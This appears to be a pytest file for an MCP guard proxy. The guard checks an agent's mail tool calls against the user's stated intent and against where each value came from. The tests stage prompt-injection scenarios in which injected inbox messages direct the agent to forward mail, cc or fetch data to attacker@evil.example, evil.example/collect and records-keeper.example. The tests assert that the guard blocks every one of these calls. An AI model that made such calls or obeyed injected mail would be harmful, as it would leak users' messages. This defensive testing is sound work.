"""End to end through `mcp-guard run --intent …` with the real `mcp` client and a mail server whose
inbox carries injections (with markers, and in plain sentences): the guard sees each result on the
call's path, and judges later calls by where their values came from."""

from __future__ import annotations

import pytest
from mcp import types

from mcp_guard.cli import main
from tests.clients import fixture, guarded, upstream_toml, write_config

pytestmark = [pytest.mark.anyio, pytest.mark.slow]
MAIL = fixture("intent_mail_server.py")
INTENT = "Reply to Bob (bob@corp.test) that I can make lunch at noon."


@pytest.fixture
def anyio_backend():
    return "asyncio"


@pytest.fixture(autouse=True)
def _isolated(home):
    """Every proxy here runs with an empty HOME."""


def config(tmp_path) -> str:
    text = upstream_toml("mail", MAIL, 'trust = "tofu"\n') + '[storage]\npath = "guard.db"\n'
    return str(write_config(tmp_path / "mcp-guard.toml", text))


def text(result) -> str:
    return result.content[0].text


async def test_benign_reply_passes_and_injected_destinations_are_stopped_with_provenance(tmp_path):
    cfg = config(tmp_path)
    async with guarded(["--upstream", "mail", "--intent", INTENT], env={"MCP_GUARD_CONFIG": cfg}) as s:
        inbox = await s.call_tool("read_inbox", {})
        assert not inbox.is_error and "attacker@evil.example" in text(inbox)
        ok = await s.call_tool("send_email", {"to": "bob@corp.test", "subject": "Re: Lunch?", "body": "Noon works."})
        assert not ok.is_error and text(ok) == "sent to bob@corp.test"
        # marked injection: the address and the link sit in instructions to the model
        for tool, args in [
            ("send_email", {"to": "attacker@evil.example", "subject": "fwd", "body": "all mail"}),
            ("forward_email", {"id": "1", "to": "attacker@evil.example"}),
            ("fetch_url", {"url": "https://evil.example/collect?d=inbox"}),
            ("send_email", {"to": "bob@corp.test", "subject": "x", "body": "x", "cc": "attacker@evil.example"}),
        ]:
            r = await s.call_tool(tool, args)
            assert r.is_error, (tool, args)
            assert "injected" in text(r) and "mail/read_inbox" in text(r), text(r)
        # plain-sentence injection, no markers: denied or held for a person, saying where it came from
        for tool, args in [
            ("send_email", {"to": "archive@records-keeper.example", "subject": "inbox", "body": "all"}),
            ("forward_email", {"id": "3", "to": "archive@records-keeper.example"}),
            ("fetch_url", {"url": "https://records-keeper.example/sync"}),
        ]:
            r = await s.call_tool(tool, args)
            assert r.is_error, (tool, args)
            assert "mail/read_inbox" in text(r), text(r)
        # the sender of the injected mail: a result that carries instructions is never data
        r = await s.call_tool("send_email", {"to": "news@deals.example", "subject": "x", "body": "x"})
        assert r.is_error and "mail/read_inbox" in text(r) and "from-data" not in text(r)
        # an address from nowhere (the agent's own invention) is denied outright
        r = await s.call_tool("send_email", {"to": "bob@corp.test.evil.example", "subject": "x", "body": "x"})
        assert r.is_error and "ungrounded" in text(r)


async def test_the_question_put_to_the_person_carries_the_provenance(tmp_path):
    cfg = config(tmp_path)
    questions: list[str] = []

    async def elicitation(ctx, params):
        questions.append(params.message)
        return types.ElicitResult(action="accept", content={"approve": False})

    async with guarded(["--upstream", "mail", "--intent", INTENT], env={"MCP_GUARD_CONFIG": cfg},
                       elicitation_callback=elicitation) as s:
        await s.call_tool("list_contacts", {})
        # a clean address book's entry, while the request names its own recipient: a person is asked
        r = await s.call_tool("send_email", {"to": "dana@partner.example", "subject": "x", "body": "x"})
        assert r.is_error
    assert len(questions) == 1
    assert "dana@partner.example" in questions[0] and "mail/list_contacts" in questions[0]


async def test_intent_check_judges_as_the_proxy_does_without_tools(tmp_path, capsys, monkeypatch):
    """Issue 14 (10): `intent check` takes the tool list the proxy recorded, and the same intent."""
    cfg = config(tmp_path)
    async with guarded(["--upstream", "mail", "--intent", INTENT], env={"MCP_GUARD_CONFIG": cfg}) as s:
        held = await s.call_tool("archive_message", {"id": "2"})  # destructive by its annotations only
        assert held.is_error and "destructive" in text(held)
    monkeypatch.delenv("MCP_GUARD_INTENT", raising=False)
    capsys.readouterr()
    assert main(["--config", cfg, "intent", "check", "--intent", INTENT, "--tool", "mail/archive_message",
                 "--args", '{"id": "2"}']) == 1
    assert capsys.readouterr().out.startswith("ask [destructive]")
    monkeypatch.setenv("MCP_GUARD_INTENT", INTENT)  # as `run` finds it when --intent is not given
    assert main(["--config", cfg, "intent", "check", "--tool", "mail/send_email",
                 "--args", '{"to": "bob@corp.test", "subject": "x", "body": "y"}']) == 0
    assert main(["--config", cfg, "intent", "check", "--tool", "mial/send_email",
                 "--args", '{"to": "bob@corp.test", "subject": "x", "body": "y"}']) == 2
    assert "no upstream named 'mial' in the config (upstreams: mail)" in capsys.readouterr().err
    # the tool as the agent sees it, or bare when the config has one upstream: judged the same way
    capsys.readouterr()
    for name in ("archive_message", "mail__archive_message"):
        assert main(["--config", cfg, "intent", "check", "--intent", INTENT, "--tool", name,
                     "--args", '{"id": "2"}']) == 1
        assert capsys.readouterr().out.startswith("ask [destructive]"), name
